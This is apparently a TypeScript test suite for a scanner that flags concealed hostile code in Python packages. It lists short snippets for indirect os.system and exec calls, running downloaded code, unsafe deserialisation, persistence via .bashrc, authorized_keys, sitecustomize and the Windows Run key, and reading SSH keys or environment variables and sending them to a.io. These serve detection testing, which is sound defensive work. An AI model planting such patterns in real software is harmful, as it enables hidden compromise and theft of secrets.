import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { RULES, type RuleId } from '../../src/checks/ruleset.ts';
import { checkFiles } from './check-files.ts';
import { hiddenNames, namedBefore } from './hidden-names.ts';
import { hiddenSiblings } from './hidden-siblings.ts';
import { hiddenOnTheWeb, innocentOnTheWeb, innocentPages } from './hidden-on-the-web.ts';
import { innocentSiblings } from './innocent-siblings.ts';

/** Ways to keep code from the eye of a reviewer, each with the rule that finds it. */
const hidden: readonly (readonly [way: string, rule: RuleId, code: string])[] = [
  ['operator.call', 'command-at-import', 'import operator, os\noperator.call(os.system, "ls")'],
  ['operator.call of exec', 'exec-dynamic', 'import operator\noperator.call(exec, text)'],
  [
    'operator.attrgetter',
    'command-at-import',
    'import operator, os\noperator.attrgetter("system")(os)("ls")',
  ],
  [
    'a getter kept in a variable',
    'command-at-import',
    'import operator, os\nget = operator.attrgetter("sys" + "tem")\nget(os)("ls")',
  ],
  [
    'operator.methodcaller',
    'command-at-import',
    'import operator, os\noperator.methodcaller("system", "ls")(os)',
  ],
  ['functools.reduce', 'exec-dynamic', 'import functools\nfunctools.reduce(exec, [text], {})'],
  ['filter', 'exec-dynamic', 'list(filter(eval, texts))'],
  ['sorted with a key', 'exec-dynamic', 'sorted(texts, key=eval)'],
  ['a decorator', 'exec-by-name', '@exec\ndef run():\n    pass'],
  ['a decorator of a class', 'command-at-import', 'import os\n@os.system\nclass A:\n    pass'],
  ['runpy', 'module-by-path', 'import runpy\nrunpy.run_path("data.txt")'],
  [
    'a module by its path',
    'module-by-path',
    'import importlib.util as u\nu.spec_from_file_location("a", "data.txt")',
  ],
  [
    'a downloaded module',
    'exec-downloaded',
    'import runpy, requests\nrunpy.run_path(requests.get("https://a.io").text)',
  ],
  [
    'a downloaded file that is opened',
    'exec-downloaded',
    'from urllib.request import urlretrieve\nexec(open(urlretrieve("https://a.io/b.py")[0]).read())',
  ],
  [
    'a key of an answer behind an open of its own',
    'exec-downloaded',
    'import requests\ndef open(text):\n    return text\nexec(open(requests.get("https://a.io").json()["code"]))',
  ],
  ['pickle', 'unsafe-deserializer', 'import pickle\npickle.load(open("a", "rb"))'],
  ['torch without weights_only', 'unsafe-deserializer', 'import torch\ntorch.load("a", weights_only=False)'],
  ['yaml', 'unsafe-deserializer', 'import yaml\nyaml.unsafe_load(text)'],
  [
    'a logging configuration',
    'configured-code',
    'from logging.config import dictConfig\ndictConfig({"formatters": {"a": {"()": "os.system"}}})',
  ],
  ['timeit', 'unusual-runner', 'import timeit\ntimeit.repeat("import os", repeat=1)'],
  [
    'an interpreter',
    'unusual-runner',
    'from code import InteractiveConsole\nInteractiveConsole().push(text)',
  ],
  ['a debugger', 'unusual-runner', 'import bdb\nbdb.Bdb().runctx(text, {}, {})'],
  ['the API of Python', 'unusual-runner', 'import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os")'],
  [
    'decoded text in a debugger',
    'exec-decoded',
    'import bdb, base64\nbdb.Bdb().run(base64.b64decode("eA=="))',
  ],
  [
    'an asyncio subprocess',
    'command-at-run',
    'import asyncio\nasync def f():\n    await asyncio.subprocess.create_subprocess_shell("ls")',
  ],
  [
    'a subprocess of the loop',
    'command-at-run',
    'import asyncio\nasync def f():\n    await asyncio.get_event_loop().subprocess_shell(P, "ls")',
  ],
  ['the C library', 'command-at-import', 'import ctypes\nctypes.CDLL("libc.so.6").system(b"ls")'],
  [
    'a fork of the inside',
    'command-at-import',
    'import _posixsubprocess\n_posixsubprocess.fork_exec([b"ls"], [b"/bin/ls"])',
  ],
  [
    '.bashrc',
    'start-up-file',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")',
  ],
  [
    '.bashrc by pathlib',
    'start-up-file',
    'from pathlib import Path\np = Path.home() / ".bashrc"\np.write_text("x")',
  ],
  [
    'authorized_keys',
    'start-up-file',
    'import os\nopen(os.path.join(os.path.expanduser("~"), ".ssh/authorized_keys"), mode="a+").write("x")',
  ],
  [
    'sitecustomize',
    'start-up-file',
    'import site, os\nopen(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w").write("x")',
  ],
  [
    'a path file',
    'start-up-file',
    'import site, shutil\nshutil.copy("a", site.getusersitepackages() + "/a.pth")',
  ],
  [
    'autostart',
    'start-up-file',
    'import shutil\nshutil.copyfile("a", "/home/ada/.config/autostart/a.desktop")',
  ],
  [
    'the registry of Windows',
    'start-up-file',
    'import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")\nwinreg.SetValueEx(key, "a", 0, 1, "a.exe")',
  ],
  ['a key that is read', 'credentials-read', 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()'],
  [
    'a key that is read by pathlib',
    'credentials-read',
    'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()',
  ],
  [
    'names of hosts',
    'credentials-sent',
    'import socket\nkey = open("/home/a/.ssh/id_rsa").read()\nsocket.gethostbyname(key + ".a.io")',
  ],
  [
    'a TLS socket',
    'environment-sent',
    'import ssl, os, json\ns = ssl.create_default_context().wrap_socket(x)\ns.sendall(json.dumps(dict(os.environ)).encode())',
  ],
  [
    'a resolver',
    'environment-sent',
    'import dns.resolver, os\ndns.resolver.resolve(str(os.environ) + ".a.io")',
  ],
];

/** The same over two files: what one has, and what the other does with it. */
const ofTwoFiles: readonly (readonly [way: string, rule: RuleId, one: string, other: string])[] = [
  [
    'a table of functions',
    'command-at-import',
    'from .b import runs\nruns["a"]("ls")',
    'import os\nruns = {"a": os.system}',
  ],
  [
    'an environment that is passed on',
    'environment-sent',
    'from .b import send\nimport os\nsend(dict(os.environ))',
    'import requests\ndef send(data):\n    requests.post("https://a.io", json=data)',
  ],
];

/** What resembles them, and holds no package. */
const harmless: Readonly<Record<string, string>> = {
  'a note on .bashrc':
    'print("Add this line to your ~/.bashrc")\nwith open("notes.txt", "w") as f:\n    f.write("x")',
  'a path of packages that is read': 'import site, os\nos.listdir(site.getsitepackages()[0])',
  'a getter of data': 'import operator\nsorted(rows, key=operator.attrgetter("name"))',
  'a decorator of the host':
    'import torch\n@torch.no_grad()\ndef f():\n    pass\n@property\ndef g(self):\n    pass',
  'a cache': 'import pickle\ndef load(path):\n    with open(path, "rb") as f:\n        return pickle.load(f)',
  'a model': 'import torch\nmodel = torch.load(path, map_location="cpu", weights_only=False)',
  'a module by its path':
    'import importlib.util, os\nspec = importlib.util.spec_from_file_location("a", os.path.join(here, "a.py"))',
  'a copy of the start-up file': 'import shutil, os\nshutil.copy(os.path.expanduser("~/.bashrc"), "backup")',
  'a library that is copied from the packages':
    'import shutil, site\nshutil.copy(site.getsitepackages()[0] + "/a/a.dll", "bin/a.dll")',
  'a table of modules': 'import requests\nlibraries = {"requests": requests}\neval(libraries.get(name))',
  'an icon in a class that calculates':
    'import base64\nclass A:\n    ICON = base64.b64decode("eA==")\n    def run(self, text):\n        return eval(text)',
  'a timer': 'import timeit\nbegun = timeit.default_timer()',
};

/** What resembles them, and finds nothing at all. */
const innocent: Readonly<Record<string, string>> = {
  'a getter of rows': 'import operator\nsorted(rows, key=operator.itemgetter("name"))',
  'a path of attributes': 'import functools\nfunctools.reduce(getattr, path.split("."), model)',
  'a table of own functions': 'def run(x):\n    return x\nTABLE = {"run": run}\nTABLE["run"](1)',
  'a function in an annotation':
    'import subprocess\ndef f(p: subprocess.Popen):\n    isinstance(p, subprocess.Popen)',
  'a loop over profiles': 'for profile in load():\n    profile.run("x")',
  'a safe loader of yaml': 'import yaml\nyaml.load(text, Loader=yaml.CSafeLoader)',
  'handlers of the library':
    'import logging.config\nlogging.config.dictConfig({"class": "logging.StreamHandler"})',
  'variables by their names':
    'import requests, os\nrequests.head("https://a.io", headers={"x": os.environ["A"]})',
  'a start-up file that is read':
    'from pathlib import Path\n(Path.home() / ".bashrc").open("r", encoding="utf8")',
};

const rulesIn = async (files: Readonly<Record<string, string>>): Promise<string[]> =>
  (await checkFiles(files)).findings.map(({ rule }) => rule);

const assertFound = async (rule: RuleId, files: Readonly<Record<string, string>>): Promise<void> => {
  const found = await rulesIn(files);
  assert.ok(found.includes(rule), `${rule} is not in ${found.join(', ') || 'nothing'}`);
};

suite('hidden code', () => {
  for (const [way, rule, code] of [...hidden, ...hiddenSiblings]) {
    test(`${way} is found`, () => assertFound(rule, { '__init__.py': `${code}\n` }));
  }

  for (const [way, name] of Object.entries(hiddenNames)) {
    test(`a name by ${way} is found`, () =>
      assertFound('encoded-name', { '__init__.py': `${namedBefore}getattr(os, ${name})("ls")\n` }));
  }

  for (const [way, rule, code] of hiddenOnTheWeb) {
    test(`${way} is found in JavaScript`, () => assertFound(rule, { 'web/main.js': `${code}\n` }));
  }

  for (const [what, code] of Object.entries(harmless)) {
    test(`${what} holds no package`, async () => {
      const found = await rulesIn({ '__init__.py': `${code}\n` });
      const errors = found.filter((rule) => RULES[rule as RuleId].severity === 'error');
      assert.deepEqual(errors, []);
    });
  }

  for (const [way, rule, one, other] of ofTwoFiles) {
    test(`${way} is found over two files`, () =>
      assertFound(rule, { '__init__.py': `${one}\n`, 'b.py': `${other}\n` }));
  }

  for (const [what, code] of Object.entries({ ...innocent, ...innocentSiblings })) {
    test(`${what} finds nothing`, async () => {
      assert.deepEqual(await rulesIn({ '__init__.py': `${code}\n` }), []);
    });
  }

  for (const [what, code] of Object.entries(innocentOnTheWeb)) {
    test(`${what} finds nothing in JavaScript`, async () => {
      assert.deepEqual(await rulesIn({ '__init__.py': '', 'web/main.js': `${code}\n` }), []);
    });
  }

  for (const [what, code] of Object.entries(innocentPages)) {
    test(`${what} finds nothing in HTML`, async () => {
      assert.deepEqual(await rulesIn({ '__init__.py': '', 'web/main.html': `${code}\n` }), []);
    });
  }
});
